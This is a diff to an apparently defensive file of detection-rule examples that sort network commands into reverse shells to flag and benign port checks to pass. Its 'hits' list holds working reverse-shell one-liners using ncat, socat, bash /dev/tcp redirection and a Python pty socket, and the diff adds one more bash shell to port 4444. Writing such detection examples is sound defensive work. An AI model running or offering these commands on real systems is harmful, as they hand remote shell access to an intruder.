@@ -88,9 +88,16 @@ export const networkExamples: RuleExamples = {
       "ncat host 1 --exec /bin/bash",
       "socat tcp:host:1 exec:/bin/sh",
       "exec 5<>/dev/tcp/h/1; cat <&5 | sh",
+      "exec bash 0<>/dev/tcp/127.0.0.1/4444 1>&0",
       "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
       "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"",
     ],
-    misses: ["nc -z localhost 5432", "nc -vz example.com 443", "curl https://example.com", "nc -vz host 443"],
+    misses: [
+      "nc -z localhost 5432",
+      "nc -vz example.com 443",
+      "curl https://example.com",
+      "nc -vz host 443",
+      "exec 3<>/dev/tcp/localhost/5432",
+    ],
   },
 };
